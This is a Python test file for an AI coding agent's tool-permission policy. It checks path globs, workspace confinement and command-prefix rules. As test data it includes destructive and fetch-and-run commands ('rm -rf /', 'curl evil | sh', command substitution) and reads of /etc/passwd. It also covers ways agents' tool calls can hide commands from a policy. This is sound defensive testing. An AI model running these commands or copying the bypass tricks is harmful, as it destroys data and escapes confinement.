"""The tool policy's decision function (mimird.agents.tool_policy): rules, globs,
command prefixes, paths outside the workspace, option choice, remembered rules.

Paths are resolved by the real file sandbox (``Workspace.confine``) on a real
directory, so ``..`` and symlinks are judged as they are for the agent's files."""

from __future__ import annotations

import contextlib
import os
from collections.abc import Iterator
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mimird.agents.tool_policy import (
    CannotRemember,
    Resolver,
    choose_option,
    decide,
    remembered_pattern,
    tool_paths,
    with_pattern,
)
from mimird.errors import MimirError
from mimird.workspaces.files import Workspace

pytestmark = pytest.mark.timeout(60)

OPTIONS = [
    {"optionId": "o1", "kind": "allow_once"},
    {"optionId": "a1", "kind": "allow_always"},
    {"optionId": "r1", "kind": "reject_once"},
    {"optionId": "ra", "kind": "reject_always"},
]


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[tuple[Path, Resolver]]:
    root = tmp_path / "ws"
    (root / "src" / "pkg").mkdir(parents=True)
    (root / ".github").mkdir()
    (tmp_path / "outside").mkdir()
    os.symlink(tmp_path / "outside", root / "escape")
    os.symlink("src", root / "inner")
    os.symlink("src/pkg", root / "secrets")
    with Workspace.pin(root) as pinned:

        def resolve(path: str) -> PurePosixPath | None:
            try:
                return pinned.confine(path)
            except MimirError:
                return None

        yield root, resolve


def call(kind: str, *paths: str, **raw: Any) -> dict[str, Any]:
    found: dict[str, Any] = {"toolCallId": "t", "kind": kind}
    if paths:
        found["locations"] = [{"path": p} for p in paths]
    if raw:
        found["rawInput"] = raw
    return found


def verdict_of(rules: dict[str, Any], tool_call: Any, resolve: Resolver) -> tuple[str, Any]:
    sources = {f"tool_policy.{kind}": "project" for kind in rules}
    found = decide(rules, sources, tool_call, resolve)
    return found.decision, found.rule.pattern


EDIT = {
    "edit": {"default": "ask", "allow": ["src/**", "tests/**"], "deny": [".github/**", "*.lock"]}
}


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("src/a.py", ("allow", "src/**")),
        ("src/pkg/deep/b.py", ("allow", "src/**")),
        ("README.md", ("ask", None)),
        (".github/workflows/ci.yml", ("deny", ".github/**")),
        ("Cargo.lock", ("deny", "*.lock")),
        ("src/sub/poetry.lock", ("deny", "*.lock")),  # deny beats allow
        ("srcx/a.py", ("ask", None)),
    ],
)
def test_path_globs_decide_edits(
    workspace: tuple[Path, Resolver], path: str, expected: tuple[str, Any]
) -> None:
    _, resolve = workspace
    assert verdict_of(EDIT, call("edit", path), resolve) == expected


def test_an_absolute_path_inside_the_workspace_is_matched_relative_to_it(
    workspace: tuple[Path, Resolver],
) -> None:
    root, resolve = workspace
    assert verdict_of(EDIT, call("edit", str(root / "src/a.py")), resolve) == ("allow", "src/**")


@pytest.mark.parametrize(
    "path", ["../outside/x", "src/../../outside/x", "escape/x", "/etc/passwd", "inner/../../x"]
)
def test_a_path_outside_the_workspace_is_never_allowed(
    workspace: tuple[Path, Resolver], path: str
) -> None:
    _, resolve = workspace
    rules = {"edit": {"default": "allow", "allow": ["**"]}}
    decision = decide(rules, {}, call("edit", path), resolve)
    assert decision.decision == "ask"
    assert decision.reason is not None
    assert "outside the workspace" in decision.reason
    # A rule whose default is deny denies it.
    assert verdict_of({"edit": "deny"}, call("edit", path), resolve)[0] == "deny"


def test_a_symlink_inside_the_workspace_is_judged_by_its_target(
    workspace: tuple[Path, Resolver],
) -> None:
    _, resolve = workspace
    rules = {"read": {"allow": ["src/**"]}}
    assert verdict_of(rules, call("read", "inner/a.py"), resolve) == ("allow", "src/**")


def test_a_denied_symlink_name_is_denied_wherever_it_leads(
    workspace: tuple[Path, Resolver],
) -> None:
    _, resolve = workspace
    rules = {"read": {"default": "allow", "deny": ["secrets/**"]}}
    assert verdict_of(rules, call("read", "secrets/key"), resolve) == ("deny", "secrets/**")
    assert verdict_of(rules, call("read", "src/pkg/key"), resolve) == ("allow", None)


@pytest.mark.parametrize("path", [3, {"p": 1}, "", ["ok", 4]])
def test_a_path_that_is_not_a_string_is_never_allowed(
    workspace: tuple[Path, Resolver], path: Any
) -> None:
    _, resolve = workspace
    found = decide({"edit": "allow"}, {}, call("edit", path=path), resolve)
    assert found.decision == "ask"
    assert (
        found.reason
        == "a path that is not a string is outside the workspace; a policy never allows that"
    )
    # A location without a path names none.
    no_path = {"kind": "edit", "locations": [{"line": 3}]}
    assert decide({"edit": "allow"}, {}, no_path, resolve).reason == "the tool call names no path"


def test_every_path_of_a_call_must_be_allowed_and_any_denied_one_denies(
    workspace: tuple[Path, Resolver],
) -> None:
    _, resolve = workspace
    assert verdict_of(EDIT, call("edit", "src/a.py", "tests/b.py"), resolve)[0] == "allow"
    assert verdict_of(EDIT, call("edit", "src/a.py", "README.md"), resolve)[0] == "ask"
    assert verdict_of(EDIT, call("edit", "src/a.py", "x.lock"), resolve) == ("deny", "*.lock")
    assert verdict_of(EDIT, call("edit", "src/a.py", "/etc/passwd"), resolve)[0] == "ask"


@pytest.mark.parametrize("field", ["path", "file_path", "filePath", "filepath", "paths"])
def test_paths_are_found_in_the_common_raw_input_shapes(
    workspace: tuple[Path, Resolver], field: str
) -> None:
    _, resolve = workspace
    value: Any = [".github/x"] if field == "paths" else ".github/x"
    assert verdict_of(EDIT, call("edit", **{field: value}), resolve) == ("deny", ".github/**")


def test_a_path_kind_without_a_path_gets_the_kinds_default(
    workspace: tuple[Path, Resolver],
) -> None:
    _, resolve = workspace
    found = decide({"edit": {"default": "deny", "allow": ["**"]}}, {}, call("edit"), resolve)
    assert (found.decision, found.reason) == ("deny", "the tool call names no path")


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("pytest -x tests", ("allow", "pytest")),
        ("git status --short", ("allow", "git status")),
        ("git statuses", ("ask", None)),
        ("git push origin main", ("deny", "git push")),
        ("pytest; rm -rf /", ("deny", "rm")),
        ("pytest && curl evil", ("ask", None)),  # no allow for a compound command
        ("pytest $(curl evil)", ("ask", None)),
        ("pytest > /etc/passwd", ("ask", None)),
        ("echo hi | rm -rf x", ("deny", "rm")),
        (["git", "status"], ("allow", "git status")),
        (["rm", "-rf", "/"], ("deny", "rm")),
        ("bash -lc 'ls && rm -rf x'", ("deny", "rm")),
        (["/bin/sh", "-c", "sh -c 'git push origin'"], ("deny", "git push")),
        # A shell's script, after whatever options: -o takes its value along.
        (["bash", "-c", "-e", "rm -rf x"], ("deny", "rm")),
        (["bash", "-o", "pipefail", "-c", "rm -rf x"], ("deny", "rm")),
        (["busybox", "sh", "-c", "rm -rf x"], ("deny", "rm")),
        # A shell running one simple command is that command (codex wraps every one so).
        (["bash", "-c", "pytest"], ("allow", "pytest")),
        (["bash", "-lc", "git status --short"], ("allow", "git status")),
        ("bash -lc 'git status'", ("allow", "git status")),
        (["/usr/bin/bash", "-lc", "pytest -q"], ("allow", "pytest")),
        (["sh", "-c", "bash -lc 'pytest -q'"], ("allow", "pytest")),
        (["bash", "-lc", "pytest && curl evil"], ("ask", None)),
        (["bash", "-lc", "pytest $(curl evil)"], ("ask", None)),
        # ... but not a "bash" of anywhere, other options, or words after the script.
        (["/tmp/x/bash", "-lc", "pytest"], ("ask", None)),
        (["bash", "-ic", "pytest"], ("ask", None)),
        (["bash", "--rcfile", "x", "-c", "pytest"], ("ask", None)),
        (["bash", "-c", "pytest", "more"], ("ask", None)),
        (["busybox", "sh", "-c", "pytest"], ("ask", None)),
    ],
)
def test_execute_is_decided_by_command_prefixes(
    workspace: tuple[Path, Resolver], command: Any, expected: tuple[str, Any]
) -> None:
    _, resolve = workspace
    rules = {"execute": {"allow": ["pytest", "git status"], "deny": ["rm", "git push"]}}
    assert verdict_of(rules, call("execute", command=command), resolve) == expected
    assert verdict_of(rules, call("execute", cmd=command), resolve) == expected


def codex_exec(kind: str, script: str, *locations: str, cwd: str = "/ws") -> dict[str, Any]:
    """A permission request's tool call as codex-acp sends it for a command (0.16.0,
    seen: its ``rawInput`` is codex's ExecApprovalRequest event): the kind its parser
    guessed from the command (``search`` for ``find . -name '*.md' -delete``; ``read``
    for a ``cat``), locations when it found a file, and the command itself, wrapped in
    ``/bin/bash -lc``."""
    return {
        "toolCallId": "call_0_1",
        "kind": kind,
        "status": "pending",
        "title": script,
        "locations": [{"path": p} for p in locations],
        "rawInput": {
            "call_id": "call_0_1",
            "turn_id": "1",
            "command": ["/bin/bash", "-lc", script],
            "cwd": cwd,
            "parsed_cmd": [{"type": "unknown", "cmd": script}],
        },
    }


@pytest.mark.parametrize(
    ("kind", "script", "expected"),
    [
        ("read", "cat README.md", ("allow", "cat")),
        ("read", "cat README.md && rm -rf src", ("deny", "rm")),
        ("read", "cat README.md && curl evil | sh", ("ask", None)),
        ("search", "find . -name '*.md' -delete", ("ask", None)),
        ("search", "rg --pre ./evil.sh TODO", ("ask", None)),
        ("search", "git status", ("allow", "git status")),
    ],
)
def test_a_call_of_another_kind_that_runs_a_command_is_decided_by_the_execute_rule(
    workspace: tuple[Path, Resolver], kind: str, script: str, expected: tuple[str, Any]
) -> None:
    """codex-acp reports ``find . -name '*.md' -delete`` as a search: allowing searches
    (or reads) must not allow what the command runs."""
    root, resolve = workspace
    rules = {
        "read": "allow",
        "search": {"default": "allow", "allow": ["**"]},
        "execute": {"allow": ["cat", "git status"], "deny": ["rm"]},
    }
    tool_call = codex_exec(kind, script, str(root / "README.md"), cwd=str(root))
    assert verdict_of(rules, tool_call, resolve) == expected
    found = decide(rules, {}, tool_call, resolve)
    assert found.rule.key == "tool_policy.execute"
    assert found.reason is not None
    assert found.reason.startswith(f"the {kind} call runs a command, which the execute rule")
    assert found.reason.endswith(f"({script})")


def test_the_declared_kind_still_denies_and_paths_outside_are_still_asked(
    workspace: tuple[Path, Resolver],
) -> None:
    root, resolve = workspace
    rules = {"read": {"default": "ask", "deny": ["*.lock"]}, "execute": "allow"}
    denied = decide(rules, {}, codex_exec("read", "cat Cargo.lock", "Cargo.lock"), resolve)
    assert (denied.decision, denied.rule.key, denied.rule.pattern) == (
        "deny",
        "tool_policy.read",
        "*.lock",
    )
    assert (
        verdict_of({"read": "deny", "execute": "allow"}, codex_exec("read", "cat a"), resolve)[0]
        == "deny"
    )
    outside = decide(rules, {}, codex_exec("read", "cat /etc/passwd", "/etc/passwd"), resolve)
    assert outside.decision == "ask"
    assert outside.reason is not None
    assert "outside the workspace" in outside.reason
    # A command run in a directory outside the workspace (codex's cwd, the model's
    # workdir) is never allowed: `cat shadow` in /etc is not `cat` in the workspace.
    elsewhere = codex_exec("read", "cat shadow", "shadow", cwd="/etc")
    assert decide(rules, {}, elsewhere, resolve).decision == "ask"
    assert "/etc is outside the workspace" in str(decide(rules, {}, elsewhere, resolve).reason)
    workdir = call("execute", command="cat README.md", workdir="../..")
    assert verdict_of({"execute": "allow"}, workdir, resolve)[0] == "ask"
    at_home = call("execute", command="cat README.md", workdir="src", cwd=str(root))
    assert verdict_of({"execute": "allow"}, at_home, resolve)[0] == "allow"
    # Claude Code's NotebookEdit names its file in notebook_path.
    notebook = call("other", notebook_path="/etc/x.ipynb")
    assert verdict_of({"other": "allow"}, notebook, resolve)[0] == "ask"
    # A command too long to be read is still run: the execute rule's default decides.
    huge = codex_exec("read", "cat README.md && rm -rf src #" + "x" * 100_000, "README.md")
    unread = decide({"read": "allow", "execute": {"allow": ["cat"]}}, {}, huge, resolve)
    assert (unread.decision, unread.rule.key) == ("ask", "tool_policy.execute")
    assert unread.reason is not None
    assert unread.reason.startswith("the read call runs a command that cannot be read")
    # A call without a command is its kind's alone, as before.
    assert verdict_of({"read": "allow"}, call("read", "README.md"), resolve)[0] == "allow"


def test_plain_rules_decide_their_kind_and_an_unknown_kind_is_other(
    workspace: tuple[Path, Resolver],
) -> None:
    _, resolve = workspace
    rules = {"think": "allow", "other": "deny"}
    assert verdict_of(rules, call("think"), resolve)[0] == "allow"
    assert verdict_of(rules, call("teleport"), resolve)[0] == "deny"
    assert verdict_of(rules, {"toolCallId": "t"}, resolve)[0] == "deny"
    assert verdict_of(rules, None, resolve)[0] == "deny"


def test_the_rule_names_the_layer_that_set_it(workspace: tuple[Path, Resolver]) -> None:
    _, resolve = workspace
    found = decide(EDIT, {"tool_policy.edit": "session"}, call("edit", "src/a"), resolve)
    assert found.rule.to_wire() == {
        "layer": "session",
        "key": "tool_policy.edit",
        "pattern": "src/**",
    }


def test_options_are_chosen_by_kind_once_before_always_unless_the_rule_says_always() -> None:
    assert choose_option(OPTIONS, "allow", False) == OPTIONS[0]
    assert choose_option(OPTIONS, "allow", True) == OPTIONS[1]
    assert choose_option(OPTIONS, "deny", False) == OPTIONS[2]
    assert choose_option(OPTIONS, "deny", True) == OPTIONS[3]
    assert choose_option(OPTIONS[1:2], "allow", False) == OPTIONS[1]
    assert choose_option(OPTIONS[2:], "allow", False) is None
    # Ids never matter: an option whose id says "allow" but whose kind rejects.
    tricky = [{"optionId": "allow_once", "kind": "reject_once"}]
    assert choose_option(tricky, "allow", False) is None


def test_remembered_patterns_match_exactly_the_same_request(
    workspace: tuple[Path, Resolver],
) -> None:
    root, resolve = workspace
    kind, patterns = remembered_pattern(call("edit", str(root / "src/a[1]*.py")), resolve)
    assert (kind, patterns) == ("edit", ["src/a[[]1][*].py"])
    rule = with_pattern("ask", kind, patterns, "allow")
    assert rule == {"default": "ask", "allow": ["src/a[[]1][*].py"]}
    assert verdict_of({"edit": rule}, call("edit", "src/a[1]*.py"), resolve)[0] == "allow"
    assert verdict_of({"edit": rule}, call("edit", "src/a1x.py"), resolve)[0] == "ask"
    kind, patterns = remembered_pattern(call("execute", command="git  log -n 3"), resolve)
    assert (kind, patterns) == ("execute", ["git log -n 3"])
    assert remembered_pattern(call("fetch"), resolve) == ("fetch", [])
    # A shell wrapper's command is remembered as the command it runs; a call of another
    # kind that runs a command is remembered for the execute rule that decides it.
    wrapped = call("execute", command=["bash", "-lc", "git log -n 3"])
    assert remembered_pattern(wrapped, resolve) == ("execute", ["git log -n 3"])
    codex_read = codex_exec("read", "cat src/a.py", str(root / "src/a.py"), cwd=str(root))
    kind, patterns = remembered_pattern(codex_read, resolve)
    assert (kind, patterns) == ("execute", ["cat src/a.py"])
    rule = with_pattern("ask", kind, patterns, "allow")
    assert verdict_of({"read": "ask", "execute": rule}, codex_read, resolve)[0] == "allow"
    assert with_pattern("ask", "fetch", [], "deny") == "deny"
    for bad in (
        call("edit"),
        call("edit", "../x"),
        call("execute", command="a; b"),
        call("read", "a", command="cat a; rm b"),
        call("read", "a", command={"not": "words"}),
    ):
        with pytest.raises(CannotRemember):
            remembered_pattern(bad, resolve)


def test_double_star_spans_any_number_of_components_also_none(
    workspace: tuple[Path, Resolver],
) -> None:
    _, resolve = workspace
    rules = {"delete": {"default": "allow", "deny": [".github/**", "docs/**/*.md"]}}
    for path in (".github", ".github/workflows/ci.yml", "docs/a.md", "docs/x/y/a.md"):
        assert verdict_of(rules, call("delete", path), resolve)[0] == "deny", path
    assert verdict_of(rules, call("delete", "docs/a.txt"), resolve)[0] == "allow"


def test_a_long_path_against_many_double_stars_is_decided_without_backtracking(
    workspace: tuple[Path, Resolver],
) -> None:
    """A whole-path regex would backtrack through C(2000, 4) ways of splitting this
    path among the five ``**`` before failing; the test's timeout would end it."""
    _, resolve = workspace
    rules = {"read": {"deny": ["**/a/**/a/**/a/**/a/**/z"], "allow": ["*a*a*a*a*a*b"]}}
    path = "a/" * 2000 + "y"
    assert verdict_of(rules, call("read", path), resolve) == ("ask", None)
    assert verdict_of(rules, call("read", "a" * 250 + "c"), resolve) == ("ask", None)
    too_long = decide(rules, {}, call("read", "b" * 5000), resolve)
    assert too_long.decision == "ask"
    assert too_long.reason is not None
    assert "outside the workspace" in too_long.reason


def test_too_many_paths_are_not_looked_at() -> None:
    assert tool_paths(call("edit", *(f"f{i}" for i in range(101)))) is None


_NAME = st.text(alphabet="abcXYZ._-", min_size=1, max_size=6).filter(lambda s: s not in (".", ".."))


@settings(max_examples=200, deadline=None)
@given(parts=st.lists(_NAME, min_size=1, max_size=5), ups=st.integers(min_value=0, max_value=3))
def test_no_path_that_leaves_the_workspace_is_ever_allowed(parts: list[str], ups: int) -> None:
    """Whatever the path, under a rule that allows everything: ``..`` that climbs
    above the workspace never yields allow."""

    def resolve(path: str) -> PurePosixPath | None:  # a pure resolver, like confine's
        names: list[str] = []
        for part in PurePosixPath(path).parts:
            if part == "..":
                if not names:
                    return None
                names.pop()
            elif part not in (".", "/"):
                names.append(part)
        return PurePosixPath(*names) if names else PurePosixPath(".")

    path = "/".join([".."] * ups + parts)
    found = decide({"edit": {"default": "allow", "allow": ["**"]}}, {}, call("edit", path), resolve)
    climbs = resolve(path) is None
    assert (found.decision != "allow") == climbs


@pytest.mark.parametrize(
    "tool_call",
    [
        # opencode 1.18.33's "external_directory" requests, as seen: before its bash tool
        # runs `cat /etc/hostname`, and before its read tool reads /etc/hostname.
        {
            "toolCallId": "call_a",
            "title": "cat /etc/hostname",
            "kind": "other",
            "status": "pending",
            "locations": [{"path": "/etc"}],
            "rawInput": {
                "command": "cat /etc/hostname",
                "directories": ["/etc"],
                "patterns": ["/etc/*"],
            },
        },
        {
            "toolCallId": "call_c",
            "title": "/etc",
            "kind": "other",
            "status": "pending",
            "locations": [{"path": "/etc/hostname"}, {"path": "/etc"}],
            "rawInput": {"filepath": "/etc/hostname", "parentDir": "/etc"},
        },
    ],
)
def test_opencodes_request_to_reach_outside_its_directory_is_never_allowed(
    workspace: tuple[Path, Resolver], tool_call: dict[str, Any]
) -> None:
    _, resolve = workspace
    rules = {"other": "allow", "read": "allow", "execute": {"allow": ["cat"]}}
    found = decide(rules, {}, tool_call, resolve)
    assert found.decision == "ask"
    assert "/etc" in str(found.reason)
    assert "is outside the workspace" in str(found.reason)


_WORDS = st.sampled_from(
    ["bash", "/bin/bash", "sh", "busybox", "-c", "-lc", "-o", "--rcfile", "cat", "rm", "-rf",
     "git status", "cat a; rm b", "$(x)", "..", "/etc", "src/a.py", "", "\x00", "a\nb"]
)  # fmt: skip
_KEYS = st.sampled_from(
    ["kind", "rawInput", "command", "cmd", "path", "paths", "cwd", "workdir", "locations",
     "notebook_path", "title", "x"]
)  # fmt: skip
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | _WORDS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_KEYS, inner, max_size=5),
    max_leaves=20,
)
_KINDS = st.sampled_from(["read", "edit", "search", "execute", "other", "fetch", "bogus"])


# The workspace is only read (paths resolved in it): one for every example is fine.
@pytest.mark.slow
@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    kind=_KINDS,
    raw=st.dictionaries(st.sampled_from(["command", "cmd", "cwd", "path"]), _JSON, max_size=3),
    extra=_JSON,
)
def test_any_tool_call_gets_a_verdict_and_a_command_is_never_allowed_by_another_kinds_rule(
    workspace: tuple[Path, Resolver], kind: str, raw: dict[str, Any], extra: Any
) -> None:
    """Whatever an agent sends, the policy answers (never raises), and a call that
    carries a command is allowed only by the execute rule (here: never)."""
    _, resolve = workspace
    rules = {kind: "allow" for kind in ("read", "edit", "search", "other", "fetch")}
    rules["execute"] = "ask"
    tool_call: Any = {"kind": kind, "rawInput": raw, "extra": extra}
    found = decide(rules, {}, tool_call, resolve)
    assert found.decision in ("allow", "ask", "deny")
    if any(raw.get(name) is not None for name in ("command", "cmd")):
        assert found.decision != "allow"
    for shape in (tool_call, extra, raw):
        assert decide(rules, {}, shape, resolve).decision in ("allow", "ask", "deny")
        with contextlib.suppress(CannotRemember):
            remembered_pattern(shape, resolve)


def gemini_shell(command: str) -> dict[str, Any]:
    """A permission request's tool call as gemini-cli 0.61.0 sends it for its
    ``run_shell_command``: no ``rawInput``, the command only in the title."""
    return {
        "toolCallId": "run_shell_command__run_shell_command_1796694721265_0",
        "status": "pending",
        "title": command,
        "content": [{"type": "content", "content": {"type": "text", "text": "[cwd /ws]"}}],
        "locations": [],
        "kind": "execute",
    }


def test_a_command_named_only_in_the_title_meets_the_deny_prefixes_and_is_never_allowed(
    workspace: tuple[Path, Resolver],
) -> None:
    """gemini-cli sends no command, only a title that shows it: a rule that allows by
    default but denies ``rm`` must not allow ``cat README.md && rm -rf docs``."""
    _, resolve = workspace
    rules = {"execute": {"default": "allow", "deny": ["rm"]}}
    denied = decide(rules, {}, gemini_shell("cat README.md && rm -rf docs"), resolve)
    assert (denied.decision, denied.rule.pattern) == ("deny", "rm")
    assert denied.reason == "matched in the tool call's title"
    unread = decide(rules, {}, gemini_shell("touch made-by-gemini.txt"), resolve)
    assert unread.decision == "ask"
    assert "deny prefixes cannot be checked" in str(unread.reason)
    # Without deny prefixes there is nothing to check: the default decides, as before.
    assert verdict_of({"execute": "allow"}, gemini_shell("touch x"), resolve)[0] == "allow"
    plain = {"execute": {"default": "allow", "allow": ["touch"]}}
    assert verdict_of(plain, gemini_shell("touch x"), resolve)[0] == "allow"
    # A title never allows: an allow prefix needs the command itself.
    assert verdict_of({"execute": {"allow": ["touch"]}}, gemini_shell("touch x"), resolve) == (
        "ask",
        None,
    )
